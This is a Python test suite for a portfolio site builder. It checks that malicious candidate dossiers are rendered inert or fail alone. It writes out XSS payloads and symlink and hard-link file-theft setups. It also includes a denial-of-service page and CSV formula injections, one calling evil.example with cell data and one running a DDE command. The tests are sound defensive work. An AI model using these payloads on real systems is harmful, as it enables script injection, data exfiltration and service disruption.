"""Issue 10: one malicious dossier per attack, built in a real cohort (and single builds).

The browser-side proofs (no script runs) are in tests/browser/test_isolation.py;
here, what the built files hold, what each row says, and that a dossier over a
limit fails alone while the cohort finishes and writes its dashboard.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from portfolio_builder.cli import main
from tests.conftest import evidence_page

pytestmark = pytest.mark.slow

BUNDLE = "assets/javascripts/bundle.a5f9d56c.min.js"
PWNED = "document.title = 'pwned';"


def run(*args: str):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def rows_of(site: Path) -> dict[str, dict]:
    return {row["slug"]: row for row in json.loads((site / "report.json").read_text(encoding="utf-8"))["dossiers"]}


def honest(project, name: str):
    return project(
        {"docs/a.md": evidence_page("D1.1", "D1.2"), "docs/fig.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect width="2" height="2"/></svg>'},
        portfolio={"candidate": {"name": name}},
        name=name.lower().replace(" ", "-"),
    )


# -- the theme's assets cannot be replaced ---------------------------------------------


def test_theme_and_plugin_assets_cannot_be_replaced(project, tmp_path):
    files = {
        "docs/a.md": evidence_page("D1.1"),
        f"docs/{BUNDLE}": PWNED,
        "docs/assets/javascripts/workers/search.f8cc74c7.min.js": PWNED,
        "docs/assets/stylesheets/main.6f8fc17f.min.css": "body{display:none}",
        "docs/assets/portfolio/portfolio.css": "body{display:none}",
        "docs/assets/portfolio/js/base.js": PWNED,
        "docs/Assets/Javascripts/Bundle.a5f9d56c.min.js": PWNED,  # a case-insensitive server
        "docs/search/search_index.json": '{"docs": []}',
        "docs/sitemap.xml": "<urlset/>",
        "docs/404.html": "<script>alert(1)</script>",
        "docs/report.json": "{}",
        "docs/manifest.json": "{}",
        "docs/portfolio/report.md": "# Décision du jury : CERTIFIÉ\n",
    }
    root = project(files, portfolio={"candidate": {"name": "Mallory Martin"}}, name="mallory")
    site = tmp_path / "out"
    run("cohort", str(root), "-d", str(site))
    out = site / "mallory-martin"
    for rel in files:
        if rel == "docs/a.md":
            continue
        published = out / rel.removeprefix("docs/")
        assert not published.exists() or PWNED not in published.read_text(encoding="utf-8", errors="replace"), rel
    assert "pwned" not in (out / BUNDLE).read_text(encoding="utf-8")  # Material's own bundle is there
    assert "body{display:none}" not in (out / "assets/portfolio/portfolio.css").read_text(encoding="utf-8")
    assert json.loads((out / "report.json").read_text(encoding="utf-8"))["format_version"] == 1
    assert "CERTIFIÉ" not in (out / "portfolio/report/index.html").read_text(encoding="utf-8")
    reserved = [p for p in rows_of(site)["mallory-martin"]["problems"] if "[reserved-path]" in p]
    assert len(reserved) == len(files) - 1, reserved


def test_a_single_build_refuses_reserved_paths_too(project, tmp_path):
    root = project({"docs/a.md": evidence_page("D1.1"), f"docs/{BUNDLE}": PWNED})
    result = run("build", str(root), "-d", str(tmp_path / "site"))
    assert result.exit_code == 0, result.output
    assert "pwned" not in (tmp_path / "site" / BUNDLE).read_text(encoding="utf-8")
    report = json.loads((tmp_path / "site/report.json").read_text(encoding="utf-8"))
    assert any(p["code"] == "reserved-path" and p["file"] == f"docs/{BUNDLE}" for p in report["problems"])


# -- a script the CSP would allow --------------------------------------------------------


def test_toc_title_and_extension_options_never_come_from_the_dossier(project, tmp_path):
    root = project(
        {"docs/a.md": evidence_page("D1.1", body="# Titre\n\n## Section\n\ntexte\n")},
        portfolio={"candidate": {"name": "Mallory Toc"}},
        config={"markdown_extensions": [{"toc": {"title": "<script>document.title='toc'</script>", "permalink": "<img src=x onerror=alert(1)>"}}]},
        name="toc",
    )
    site = tmp_path / "out"
    run("cohort", str(root), "-d", str(site))
    page = (site / "mallory-toc/a/index.html").read_text(encoding="utf-8")
    assert "document.title='toc'" not in page and "onerror" not in page
    assert re.search(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)[^>]*>", page) is None  # no inline script at all
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', page).group(1)
    assert "script-src 'self';" in policy and "sha256" not in policy


def test_the_cohort_sets_extension_options(project, tmp_path):
    root = project(
        {"docs/a.md": evidence_page("D1.1", body="# Titre\n\n## Section\n\ntexte\n")},
        portfolio={"candidate": {"name": "Ana Toc"}},
        config={"markdown_extensions": ["toc"]},
        name="ana",
    )
    config = tmp_path / "cohort.yml"
    config.write_text(f"dossiers: [{root}]\nmarkdown_extensions:\n  toc: {{permalink: '¶', title: Sommaire}}\n", encoding="utf-8")
    site = tmp_path / "out"
    assert run("cohort", "--config", str(config), "-d", str(site)).exit_code == 0
    page = (site / "ana-toc/a/index.html").read_text(encoding="utf-8")
    assert 'class="headerlink"' in page and "Sommaire" in page


# -- HTML and SVG files ------------------------------------------------------------------

ACTIVE = {
    "docs/annexe.html": "<script>document.title='pwned'</script>",
    "docs/sub/deep/ANNEXE.HTM": "<script>document.title='pwned'</script>",
    "docs/x.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><script>document.title="pwned"</script></html>',
    "docs/data.xml": '<?xml-stylesheet type="text/xsl" href="s.xsl"?><a/>',
    "docs/s.xsl": "<xsl:stylesheet/>",
    "docs/fig.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=1"><script>document.title=2</script><rect width="1" height="1"/></svg>',
    "docs/FIG2.SVG": '<svg xmlns="http://www.w3.org/2000/svg"><script>document.title=3</script></svg>',
}


def test_active_files_are_inert_in_a_cohort(project, tmp_path):
    import gzip

    files = {"docs/a.md": evidence_page("D1.1", body="# A\n\n[annexe](annexe.html) ![figure](fig.svg)\n"), **ACTIVE}
    root = project(files, portfolio={"candidate": {"name": "Mallory Html"}}, name="html")
    (root / "docs/z.svgz").write_bytes(gzip.compress(ACTIVE["docs/fig.svg"].encode()))
    site = tmp_path / "out"
    run("cohort", str(root), "-d", str(site))
    out = site / "mallory-html"
    for rel in ("annexe.html", "sub/deep/ANNEXE.HTM", "x.xhtml", "data.xml", "s.xsl"):
        assert not (out / rel).exists(), rel
        assert (out / f"{rel}.txt").read_text(encoding="utf-8") == files[f"docs/{rel}"]  # the file, as text to download
    for rel in ("fig.svg", "FIG2.SVG"):
        svg = (out / rel).read_text(encoding="utf-8")
        assert "script" not in svg and "onload" not in svg and svg.startswith("<svg")
    assert "script" not in gzip.decompress((out / "z.svgz").read_bytes()).decode()
    page = (out / "a/index.html").read_text(encoding="utf-8")
    assert 'href="../annexe.html.txt"' in page and 'src="../fig.svg"' in page  # links follow the new name
    warnings = [p for p in json.loads((out / "report.json").read_text(encoding="utf-8"))["problems"] if p["code"] == "active-file"]
    assert len(warnings) == 5


def test_active_files_are_inert_in_a_public_build_and_kept_in_your_own(project, tmp_path):
    root = project({"docs/a.md": evidence_page("D1.1"), **ACTIVE})
    assert run("build", str(root), "-d", str(tmp_path / "own")).exit_code == 0
    assert "document.title='pwned'" in (tmp_path / "own/annexe.html").read_text(encoding="utf-8")  # yours, as written
    assert run("build", str(root), "-d", str(tmp_path / "public"), "--public").exit_code == 0
    assert not (tmp_path / "public/annexe.html").exists() and (tmp_path / "public/annexe.html.txt").is_file()
    assert "script" not in (tmp_path / "public/fig.svg").read_text(encoding="utf-8")


# -- the dossier's root is its folder ---------------------------------------------------


def test_a_symlinked_mkdocs_yml_is_refused(project, tmp_path):
    victim = project({"docs/a.md": evidence_page("D1.1")}, portfolio={"candidate": {"name": "Victime Vraie"}}, name="victim")
    thief = tmp_path / "thief"
    (thief / "docs").mkdir(parents=True)
    (thief / "mkdocs.yml").symlink_to(victim / "mkdocs.yml")
    site = tmp_path / "out"
    result = run("cohort", str(victim), str(thief), "-d", str(site))
    assert result.exit_code == 1
    rows = rows_of(site)
    assert rows["victime-vraie"]["built"]
    thief_row = rows["thief"]
    assert not thief_row["built"] and any("[config-link]" in p for p in thief_row["problems"])
    assert not (site / "thief").exists()


def test_hard_links_and_fifos_and_outside_folders_are_not_published(project, tmp_path):
    secret = tmp_path / "secret-of-another.txt"
    secret.write_text("copie de l'examen", encoding="utf-8")
    outside = tmp_path / "outside-folder"
    outside.mkdir()
    (outside / "loot.txt").write_text("loot", encoding="utf-8")
    root = project({"docs/a.md": evidence_page("D1.1")}, portfolio={"candidate": {"name": "Mallory Link"}}, name="links")
    os.link(secret, root / "docs/notes.txt")
    os.mkfifo(root / "docs/tube.png")
    os.symlink(outside, root / "docs/dossier-lie")
    (root / "docs/ok").mkdir()
    os.symlink(root / "docs/ok", root / "docs/inside-link")  # a link inside the dossier is fine
    site = tmp_path / "out"
    run("cohort", str(root), "-d", str(site))
    out = site / "mallory-link"
    assert (out / "portfolio/report/index.html").is_file()
    assert not (out / "notes.txt").exists() and not (out / "tube.png").exists() and not (out / "dossier-lie").exists()
    everything = "".join(p.read_text(encoding="utf-8", errors="replace") for p in out.rglob("*") if p.is_file())
    assert "copie de l'examen" not in everything and "loot" not in everything
    codes = [p for p in rows_of(site)["mallory-link"]["problems"]]
    assert any("[hard-link]" in p and "docs/notes.txt" in p for p in codes), codes
    assert any("[symlink-outside]" in p for p in codes)


# -- limits ------------------------------------------------------------------------------

# Python-Markdown is quadratic on unclosed brackets: 120 KB of them take minutes.
HANGING_PAGE = evidence_page("D1.1", body="[" * 120_000)


def test_a_hanging_and_an_oversized_dossier_fail_alone(project, tmp_path):
    """Two honest dossiers, one that hangs Markdown, one sparse giant: the honest two build,
    the dashboard is written, and the cohort ends within its time limit plus a margin."""
    one, two = honest(project, "Ana Une"), honest(project, "Bea Deux")
    hang = project({"docs/a.md": HANGING_PAGE}, portfolio={"candidate": {"name": "Henri Hang"}}, name="hang")
    big = project({"docs/a.md": evidence_page("D1.1")}, portfolio={"candidate": {"name": "Gros Bob"}}, name="big")
    with open(big / "docs/video.mp4", "wb") as handle:
        handle.truncate(4 * 1024**3)  # 4 GiB apparent, nothing on disk
    limit = 4  # an honest one-page dossier builds in well under a second in a warm worker
    config = tmp_path / "cohort.yml"
    config.write_text(
        f"title: Session\ndossiers: [{one}, {hang}, {big}, {two}]\nlimits:\n  build_seconds: {limit}\n", encoding="utf-8"
    )
    site = tmp_path / "out"
    started = time.monotonic()
    result = run("cohort", "--config", str(config), "-d", str(site), "-j", "2")
    elapsed = time.monotonic() - started
    assert result.exit_code == 1
    # Not a speed test: a cohort waiting for the hanging dossier would take minutes.
    assert elapsed < limit + 60, elapsed
    rows = rows_of(site)
    assert rows["ana-une"]["built"] and rows["bea-deux"]["built"]
    assert (site / "ana-une/portfolio/report/index.html").is_file() and (site / "index.html").is_file()
    assert not rows["henri-hang"]["built"] and f"{limit} s" in rows["henri-hang"]["failure"]
    assert any("[build-timeout]" in p for p in rows["henri-hang"]["problems"])
    assert not rows["gros-bob"]["built"]
    assert any("file-too-large" in p and "video.mp4" in p for p in rows["gros-bob"]["problems"])
    assert not (site / "gros-bob").exists() and not (site / "henri-hang").exists()
    leftovers = [p.name for p in site.iterdir() if p.name.startswith(".") and not p.name.endswith(".lock")]
    assert not leftovers
    dashboard = (site / "index.html").read_text(encoding="utf-8")
    assert "Henri Hang" in dashboard and "Gros Bob" in dashboard  # a failed row still names its candidate


def test_cohort_limits_are_configurable_and_checked(project, tmp_path):
    root = honest(project, "Ana Limite")
    config = tmp_path / "cohort.yml"
    config.write_text(f"dossiers: [{root}]\nlimits:\n  files: 1\n", encoding="utf-8")
    site = tmp_path / "out"
    run("cohort", "--config", str(config), "-d", str(site))
    row = rows_of(site)["ana-limite"]
    assert not row["built"] and any("[dossier-too-large]" in p for p in row["problems"])
    config.write_text(f"dossiers: [{root}]\nlimits:\n  docs_bytes: beaucoup\n  nombre: 3\n", encoding="utf-8")
    result = run("cohort", "--config", str(config), "-d", str(tmp_path / "out2"))
    assert result.exit_code == 2 and "limits" in result.output


def test_a_single_build_over_a_limit_keeps_the_previous_site(project, tmp_path):
    root = project({"docs/a.md": evidence_page("D1.1")})
    site = tmp_path / "site"
    assert run("build", str(root), "-d", str(site)).exit_code == 0
    before = (site / "report.json").read_text(encoding="utf-8")
    with open(root / "docs/film.mov", "wb") as handle:
        handle.truncate(200 * 1024**2)  # over the 100 MiB per file
    result = run("build", str(root), "-d", str(site))
    assert result.exit_code == 1 and "file-too-large" in result.output
    assert (site / "report.json").read_text(encoding="utf-8") == before and not (site / "film.mov").exists()
    assert run("check", str(root)).exit_code == 1
    raised = run("build", str(root), "-d", str(site), "--limit", "file_bytes=300MiB", "--limit", "docs_bytes=2GiB")
    assert raised.exit_code == 0, raised.output
    assert (site / "film.mov").stat().st_size == 200 * 1024**2
    bad = run("build", str(root), "-d", str(site), "--limit", "file_bytes=plenty")
    assert bad.exit_code == 2 and "file_bytes" in bad.output


# -- public means public -----------------------------------------------------------------


def test_public_build_leaves_out_every_private_thing(project, tmp_path):
    attestation = (
        "referential: c2i1-2011\ncandidate:\n  name: Léa Moreau\n  student_id: \"99999999\"\n"
        "session: 2023-juin\ninstitution: Université de Valcourt\ndate: 2023-06-30\nvalidated_domains: [D1]\n"
    )
    root = project(
        {
            "docs/a.md": evidence_page("D1.1"),
            "docs/prive.md": evidence_page("D1.2", extra="visibility: private\n", body="# Privé\n\n![bulletin](img/bulletin.png)\n"),
            "docs/journal.md": "---\ntitle: Journal intime\nvisibility: private\n---\n\nSECRET-JOURNAL ![moi](img/moi.jpg)\n",
            "docs/img/bulletin.png": b"\x89PNG-BULLETIN",
            "docs/img/moi.jpg": b"\xff\xd8MOI",
            "attestations/old.yml": attestation,
        },
        portfolio={"candidate": {"name": "Léa Moreau", "student_id": "21904512"}, "previous_attestations": ["attestations/old.yml"]},
    )
    site = tmp_path / "public"
    result = run("build", str(root), "-d", str(site), "--public")
    assert result.exit_code == 0, result.output
    for rel in ("prive/index.html", "journal/index.html", "img/bulletin.png", "img/moi.jpg"):
        assert not (site / rel).exists(), rel
    everything = "".join(p.read_text(encoding="utf-8", errors="replace") for p in site.rglob("*") if p.is_file() and p.suffix != ".gz")
    assert "21904512" not in everything
    assert "SECRET-JOURNAL" not in everything and "Journal intime" not in everything
    jury = tmp_path / "jury"
    assert run("build", str(root), "-d", str(jury)).exit_code == 0
    assert (jury / "journal/index.html").is_file() and "21904512" in (jury / "report.json").read_text(encoding="utf-8")


# -- spreadsheet formulas ------------------------------------------------------------------


def test_cohort_and_dossier_csv_never_start_a_cell_with_a_formula(project, tmp_path):
    root = project(
        {"docs/a.md": evidence_page("D1.1", title='=HYPERLINK("https://evil.example/?"&A1,"Preuve")')},
        portfolio={"candidate": {"name": "=cmd|' /C calc'!A0", "student_id": "-SUM1"}, "institution": "+33 Valcourt"},
        name="csv",
    )
    site = tmp_path / "out"
    run("cohort", str(root), "-d", str(site))
    files = [site / "report.csv", *site.glob("*/report.csv")]
    assert len(files) == 2
    for path in files:
        text = path.read_text(encoding="utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, cell)
    cohort_rows = list(csv.reader(io.StringIO((site / "report.csv").read_text(encoding="utf-8-sig"), newline=""), delimiter=";"))
    assert cohort_rows[1][0] == "'=cmd|' /C calc'!A0" and cohort_rows[1][1] == "'-SUM1"


def test_published_reports_that_are_fifos_or_giants_fail_alone(project, tmp_path):
    root = honest(project, "Ana Rapport")
    site = tmp_path / "published"
    assert run("build", str(root), "-d", str(site)).exit_code == 0
    fifo = tmp_path / "tube.json"
    os.mkfifo(fifo)
    giant = tmp_path / "giant.json"
    with open(giant, "wb") as handle:
        handle.truncate(2 * 1024**3)
    out = tmp_path / "dashboard"
    result = run("cohort", "--reports", str(site / "report.json"), str(fifo), str(giant), "-d", str(out))
    assert result.exit_code == 1
    document = json.loads((out / "report.json").read_text(encoding="utf-8"))
    built = [row for row in document["dossiers"] if row["built"]]
    failed = [row for row in document["dossiers"] if not row["built"]]
    assert len(built) == 1 and len(failed) == 2


def test_a_worker_that_dies_or_hangs_fails_alone_and_is_replaced(project, tmp_path, monkeypatch):
    """Workers are reused across dossiers; one that dies or hangs is replaced, its dossier fails alone."""
    from portfolio_builder.cohort import run as run_mod

    folders = [honest(project, name) for name in ("Ana Un", "Crash Deux", "Hang Trois", "Bea Quatre", "Cleo Cinq")]
    original = run_mod.build_one

    def misbehaving(folder, slug, *args, **kwargs):
        if slug == "crash-deux":
            os._exit(3)
        if slug == "hang-trois":
            time.sleep(3600)
        return original(folder, slug, *args, **kwargs)

    monkeypatch.setattr(run_mod, "build_one", misbehaving)  # the workers are forked: they see it
    policy = run_mod.CohortPolicy(limits=run_mod.DEFAULT_LIMITS.with_values({"build_seconds": 4}))
    results = {r.slug: r for r in run_mod.build_all(folders, tmp_path / "out", policy, jobs=2)}
    assert [s for s, r in results.items() if r.built] == ["ana-un", "bea-quatre", "cleo-cinq"]
    assert "arrêté brutalement" in results["crash-deux"].failure
    assert "4 s" in results["hang-trois"].failure
